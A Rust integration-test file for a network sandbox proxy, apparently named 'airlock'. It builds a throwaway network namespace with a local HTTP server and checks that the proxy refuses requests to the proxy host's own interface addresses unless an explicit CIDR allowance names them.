    let mut child = common::spawn(names.wrap(&cmd).stdout(std::process::Stdio::piped()))
        .expect("spawn sandbox");
    let status = common::wait_with_limit(&mut child, std::time::Duration::from_secs(30));
    if status.is_none() {
        let _ = child.kill();
        let _ = child.wait();
    }
    assert!(
        status.is_some_and(|s| s.success()),
        "the session outlived its agent (tunnels held it open): {status:?}"
    );
    let mut held = String::new();
    use std::io::Read;
    let _ = child.stdout.take().map(|mut o| o.read_to_string(&mut held));
    assert!(held.contains("holding"), "the tunnels were open: {held:?}");
    let events = sb.network_events();
    let tunnels = events
        .iter()
        .filter(|e| e["destination"]["port"] == port)
        .count();
    assert_eq!(tunnels, 2, "both tunnels recorded: {events:#?}");
}

/// An HTTP server on port 18777 of every address, both families.
const SERVE_EVERYWHERE: &str = "import http.server as h, socket\n\
class S(h.ThreadingHTTPServer):\n    address_family = socket.AF_INET6\n    \
def server_bind(self):\n        \
self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)\n        \
super().server_bind()\n\
S(('::', 18777), h.SimpleHTTPRequestHandler).serve_forever()";

/// A network namespace made for one test (removed on drop), with `lo` up.
struct TestNetns(String);

impl TestNetns {
    fn new() -> TestNetns {
        let name = format!("airlock-t{}", &common::random_token()[..8]);
        let ok = std::process::Command::new("ip")
            .args(["netns", "add", &name])
            .status()
            .is_ok_and(|s| s.success());
        assert!(ok, "ip netns add {name}");
        let ns = TestNetns(name);
        ns.run(&["ip", "link", "set", "lo", "up"]);
        ns
    }

    fn run(&self, argv: &[&str]) {
        let ok = std::process::Command::new("ip")
            .args(["netns", "exec", &self.0])
            .args(argv)
            .status()
            .is_ok_and(|s| s.success());
        assert!(ok, "in {}: {argv:?}", self.0);
    }

    /// `cmd` run inside the namespace.
    fn wrap(&self, cmd: &std::process::Command) -> std::process::Command {
        let mut out = std::process::Command::new("ip");
        out.args(["netns", "exec", &self.0])
            .arg(cmd.get_program())
            .args(cmd.get_args());
        if let Some(d) = cmd.get_current_dir() {
            out.current_dir(d);
        }
        for (k, v) in cmd.get_envs() {
            match v {
                Some(v) => out.env(k, v),
                None => out.env_remove(k),
            };
        }
        out.stdin(std::process::Stdio::null());
        out
    }
}

impl Drop for TestNetns {
    fn drop(&mut self) {
        let _ = std::process::Command::new("ip")
            .args(["netns", "del", &self.0])
            .status();
    }
}

/// The proxy host's own interface addresses (public class here, like a
/// node or pod IP) are refused like private ones, over HTTP, CONNECT and
/// SOCKS5, as IP literals in report mode too, in both families; only an
/// `--allow-cidr` naming them lets them through. Everything runs in a
/// network namespace this test creates: the "proxy host" is that
/// namespace, with a service bound to the wildcard address.
#[test]
fn the_proxy_hosts_own_addresses_are_refused() {
    if !can_run() {
        return;
    }
    let ns = TestNetns::new();
    ns.run(&[
        "ip", "link", "add", "node0", "type", "veth", "peer", "name", "node1",
    ]);
    ns.run(&["ip", "link", "set", "node1", "up"]);
    ns.run(&["ip", "addr", "add", "11.22.33.44/32", "dev", "node0"]);
    ns.run(&[
        "ip",
        "-6",
        "addr",
        "add",
        "2a00:1::44/128",
        "dev",
        "node0",
        "nodad",
    ]);
    ns.run(&["ip", "link", "set", "node0", "up"]);
    // A service on the proxy host, bound to every address.
    let mut server = ns.wrap(
        std::process::Command::new("python3")
            .args(["-c", SERVE_EVERYWHERE])
            .current_dir("/tmp"),
    );
    server
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    let _server = common::HostChild(common::spawn(&mut server).expect("start the service"));
    ns.run(&[
        "python3",
        "-c",
        "import socket, time\nfor i in range(200):\n    try:\n        socket.create_connection(('11.22.33.44', 18777), 1); break\n    except OSError: time.sleep(0.05)",
    ]);
    let names = Names::new();
    names.add_host("11.22.33.44", "node.example.com");
    names.add_host("2a00:1::44", "node6.example.com");
    let sb = Sandbox::new();
    let script = "for u in http://node.example.com:18777/ http://node6.example.com:18777/; do\n\
           curl -sS --max-time 20 -o /dev/null -w \"http %{http_code}\\n\" -D - $u | grep -i -e '^http ' -e x-airlock-deny\n\
           curl -sS --max-time 20 -o /dev/null --socks5-hostname 127.0.0.1:1080 $u 2>&1 | sed 's/^/socks /'\n\
         done\n";
    let run = |opts: &[&str], script: &str| {
        let cmd = sb.command_with(opts, &["/bin/sh", "-c", script]);
        common::run_to_end(ns.wrap(&names.wrap(&cmd)))
    };
    let opts = [
        "--allow",
        "node.example.com",
        "--allow",
        "node6.example.com",
        "--allow-port",
        "18777",
    ];
    let out = run(&opts, script);
    assert_eq!(out.stdout.matches("http 403").count(), 2, "{out}");
    assert_eq!(
        out.stdout
            .to_lowercase()
            .matches("x-airlock-deny: address-class")
            .count(),
        2,
        "{out}"
    );
    assert_eq!(out.stdout.matches("socks curl: (97)").count(), 2, "{out}");
    let refused = sb
        .network_events()
        .iter()
        .filter(|e| e["rule"]["id"] == "address-class:proxy-host")
        .count();
    assert_eq!(refused, 4, "each refusal names the rule");

    // Report mode admits names and IP literals, never these addresses.
    let literal = "curl -sS --max-time 20 -o /dev/null -w 'literal %{http_code}\\n' http://11.22.33.44:18777/\n\
                   curl -sS --max-time 20 -o /dev/null -w 'literal6 %{http_code}\\n' 'http://[2a00:1::44]:18777/'\n";
    let out = run(
        &["--network-mode", "report", "--allow-port", "18777"],
        literal,
    );
    assert!(out.stdout.contains("literal 403"), "{out}");
    assert!(out.stdout.contains("literal6 403"), "{out}");

    // Named by a CIDR: reachable.
    let out = run(
        &[
            &opts[..],
            &[
                "--allow-cidr",
                "11.22.33.44/32",
                "--allow-cidr",
                "2a00:1::44/128",
            ],
        ]
        .concat(),
        script,
    );
    assert_eq!(out.stdout.matches("http 200").count(), 2, "{out}");
}
